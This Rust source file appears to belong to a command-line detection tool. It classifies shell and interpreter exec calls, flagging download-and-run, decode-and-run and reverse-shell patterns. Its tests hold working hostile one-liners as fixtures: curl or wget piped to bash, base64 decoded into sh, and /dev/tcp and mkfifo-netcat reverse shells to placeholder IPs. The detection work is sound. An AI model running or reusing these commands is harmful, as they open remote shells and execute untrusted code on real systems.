//! Code on the command line: `sh -c SCRIPT`, `python -c CODE`, and a shell that is fed.

use crate::analyse::command::{Effects, Habit, runs};
use crate::event::Exec;
use crate::facts::{Facts, Field};
use crate::names::{base_name, plain_name};
use crate::script::{self, Command};
use crate::words::Words;

/// Looks into the code an exec carries.
pub(super) fn code<'a>(words: &'a Words, exec: &Exec<'a>, facts: &mut Facts<'a>) {
    let shell = facts.has(Field::Class, "shell");
    if !shell && !facts.has(Field::Class, "interpreter") {
        return;
    }
    match given(exec, shell) {
        Given::Code(script) => {
            facts.add(Field::Script, "inline");
            if shell {
                shell_script(words, exec, script, facts);
            }
        }
        Given::Nothing | Given::File("/dev/stdin") if shell && !is_login_shell(exec) => {
            facts.add(Field::Script, "stdin");
        }
        _ => {}
    }
    let mut options = exec.argv.iter().skip(1).take_while(|word| word.starts_with(['-', '+']));
    if shell && options.any(|word| matches!(*word, "-i" | "-li" | "-il" | "-pi" | "-ip")) {
        facts.add(Field::Script, "interactive");
    }
}

/// What an interpreter was told to run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Given<'a> {
    /// Code on the command line.
    Code(&'a str),
    /// A file.
    File(&'a str),
    /// A module by its name.
    Module,
    /// Nothing: it asks, or takes what comes.
    Nothing,
}

/// Reads the options in front of the first operand; what follows belongs to the script.
pub(super) fn given<'a>(exec: &Exec<'a>, shell: bool) -> Given<'a> {
    let own = exec.argv.first().copied().unwrap_or_default();
    let (awk, perl) = (plain_name(own).ends_with("awk"), plain_name(own) == "perl");
    // Of these the shell is an argument.
    let mut at = if matches!(base_name(own), "busybox" | "toybox") { 2 } else { 1 };
    while let Some(word) = exec.argv.get(at).copied() {
        let Some(short) = word.strip_prefix(['-', '+']).filter(|short| !short.is_empty()) else {
            return if awk { Given::Code(word) } else { Given::File(word) };
        };
        let letters = short.len() <= 6 && short.bytes().all(|byte| byte.is_ascii_alphabetic());
        let code = letters
            && if shell {
                short.ends_with('c') && word.starts_with('-')
            } else {
                short.ends_with(['c', 'e', 'r']) && !awk || perl && short.ends_with('E')
            };
        if code {
            return exec.argv.get(at + 1).map_or(Given::Nothing, |code| Given::Code(code));
        }
        match word {
            "-m" if !shell => return Given::Module,
            "-f" if awk => return exec.argv.get(at + 1).map_or(Given::Nothing, |file| Given::File(file)),
            "--eval" | "--run" | "--execute" => {
                return exec.argv.get(at + 1).map_or(Given::Nothing, |code| Given::Code(code));
            }
            // These take a value.
            "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file" => at += 2,
            "-W" | "-X" | "-I" | "-M" | "-F" | "-v" | "-d" | "-S" | "-C" if !shell => at += 2,
            _ => at += 1,
        }
    }
    Given::Nothing
}

/// A login shell is somebody's; any other without a script takes what comes.
fn is_login_shell(exec: &Exec<'_>) -> bool {
    exec.argv.first().is_some_and(|own| own.starts_with('-')) || exec.argv.contains(&"--login")
}

fn shell_script<'a>(words: &'a Words, exec: &Exec<'a>, script: &str, facts: &mut Facts<'a>) {
    let commands = script::commands(script);
    let programs: Vec<&str> = commands.iter().map(program_of).collect();
    let is = |index: usize, class: &str| programs.get(index).is_some_and(|name| words.is_program(name, class));
    for (index, command) in commands.iter().enumerate() {
        let program = programs[index];
        runs(words, program, facts);
        let mut effects = Effects { words, cwd: exec.cwd, facts };
        let arguments: Vec<&str> = command.words.iter().skip(1).map(String::as_str).collect();
        effects.of(&Habit::of([base_name(program), plain_name(program)].into_iter()), &arguments);
        for path in &command.writes {
            effects.written(path, matches!(program, "" | ":" | "true" | "echo" | "cat") && arguments.is_empty());
        }
        command.reads.iter().for_each(|path| effects.read(path));
        // `sh -c "$(...)"`: what the substitution says is the command.
        let fed = is_fed(command, program, words) || command.words.iter().all(String::is_empty);
        for before in sources(&commands, index).filter(|_| fed) {
            if is(before, "fetcher") {
                facts.add(Field::Script, "download_run");
            }
            if decodes(&commands[before], programs[before]) {
                facts.add(Field::Script, "decode_run");
            }
            if is(before, "netcat") {
                facts.add(Field::Script, "reverse_shell");
            }
        }
        // `mkfifo f; cat f | sh -i | nc host port > f`
        if is(index, "netcat") || matches!(program, "telnet" | "openssl") {
            let shells = sources(&commands, index).any(|before| is(before, "shell"));
            if shells {
                facts.add(Field::Script, "reverse_shell");
            }
        }
        let sockets = command
            .writes
            .iter()
            .chain(&command.reads)
            .any(|path| path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/"));
        if sockets && (is(index, "shell") || program == "exec") {
            facts.add(Field::Script, "reverse_shell");
        }
    }
}

/// The program of a command, behind what only wraps it.
fn program_of(command: &Command) -> &str {
    const THROUGH: &[&str] = &[
        "sudo", "env", "nohup", "exec", "command", "builtin", "time", "if", "then", "else", "elif", "do", "while",
        "until", "!", "-E", "-n", "-H", "busybox", "setsid", "stdbuf", "xargs", "coproc",
    ];
    let mut words = command.words.iter().map(String::as_str);
    let program = words.find(|word| !(THROUGH.contains(word) || word.contains('=') && !word.starts_with(['-', '/'])));
    // `exec 3<>/dev/tcp/...` has none behind it.
    program.or_else(|| command.words.first().map(String::as_str)).unwrap_or_default()
}

/// Whether what comes in is run.
fn is_fed(command: &Command, program: &str, words: &Words) -> bool {
    if matches!(program, "eval" | "source" | ".") {
        return true;
    }
    let name = plain_name(program);
    if words.is_program(name, "shell") {
        return true;
    }
    // `| python -m json.tool`, `| perl -pe ...`: the pipe is data there, not code.
    matches!(name, "python" | "perl" | "ruby" | "php" | "node" | "lua")
        && command.words.len() < 3
        && !command.words.iter().skip(1).any(|word| word.len() > 1 && word.starts_with('-'))
}

/// The commands whose output a command gets, through pipes or as part of its words.
fn sources(commands: &[Command], index: usize) -> impl Iterator<Item = usize> {
    let piped = std::iter::successors(commands[index].piped_from, |before| commands.get(*before)?.piped_from);
    let inside =
        commands.iter().enumerate().filter(move |(_, command)| command.inside == Some(index)).map(|(at, _)| at);
    piped.take(commands.len()).chain(inside)
}

fn decodes(command: &Command, program: &str) -> bool {
    let has = |flags: &[&str]| command.words.iter().skip(1).any(|word| flags.contains(&word.as_str()));
    match base_name(program) {
        "base64" | "base32" | "basenc" => has(&["-d", "-D", "--decode", "-di"]),
        "xxd" => has(&["-r", "-rp"]) || command.words.iter().any(|word| word.starts_with("-r")),
        "openssl" => has(&["base64", "enc", "-base64"]) && has(&["-d", "-D"]),
        "gpg" => has(&["-d", "--decrypt"]),
        "uudecode" | "rev" => true,
        "tr" => command.words.iter().any(|word| word.to_ascii_lowercase().contains("n-za-m")),
        _ => command.words.iter().any(|word| word.contains("{base64,-d}")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyse;

    fn labels(argv: &[&'static str]) -> Vec<String> {
        let words = Words::parse(crate::pack::WORDS).unwrap();
        let line = argv.join(" ");
        let exec =
            Exec { exe: argv[0], filename: argv[0], argv: argv.to_vec(), command_line: &line, ..Exec::default() };
        let shared = analyse::Sharing::default().of(&words, &exec);
        let mut facts = Facts::default();
        analyse::exec(&words, &exec, &shared, &mut facts);
        facts.get(Field::Script).iter().map(|label| label.to_string()).collect()
    }

    #[test]
    fn downloads_and_decoded_text_that_are_run() {
        for script in [
            "curl -sS http://203.0.113.9/x.sh | sudo bash",
            "bash -c \"$(curl -fsSL http://203.0.113.9/x.sh)\"",
            "cd /tmp; wget -qO- http://203.0.113.9/x | tee x | sh",
            "eval `curl -s h`",
            "$(curl -s h)",
            ". <(curl -s h)",
        ] {
            assert!(labels(&["sh", "-c", script]).contains(&"download_run".to_owned()), "{script}");
        }
        assert!(labels(&["sh", "-c", "echo aWQ= | base64 -d | sh"]).contains(&"decode_run".to_owned()));
        for script in ["curl -s h | grep ok", "curl -s h | python3 -m json.tool", "echo aWQ= | base64 -d > x"] {
            assert_eq!(labels(&["sh", "-c", script]), ["inline"], "{script}");
        }
    }

    #[test]
    fn shells_on_sockets() {
        for script in [
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 1 > /tmp/f",
            "exec 5<>/dev/tcp/203.0.113.7/1",
        ] {
            assert!(labels(&["bash", "-c", script]).contains(&"reverse_shell".to_owned()), "{script}");
        }
        assert!(
            !labels(&["sh", "-c", "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'"])
                .contains(&"reverse_shell".to_owned())
        );
    }

    #[test]
    fn a_shell_that_is_fed() {
        assert_eq!(labels(&["sh"]), ["stdin"]);
        assert_eq!(labels(&["bash", "-s"]), ["stdin"]);
        assert_eq!(labels(&["-bash"]), [""; 0]);
        assert_eq!(labels(&["bash", "x.sh"]), [""; 0]);
        assert_eq!(labels(&["bash", "x.sh", "-c", "id"]), [""; 0]);
        assert_eq!(labels(&["bash", "-o", "pipefail", "-ec", "id"]), ["inline"]);
        assert_eq!(labels(&["python3", "x.py", "-r", "y"]), [""; 0]);
        assert_eq!(labels(&["python3", "-W", "ignore", "-c", "pass"]), ["inline"]);
    }
}
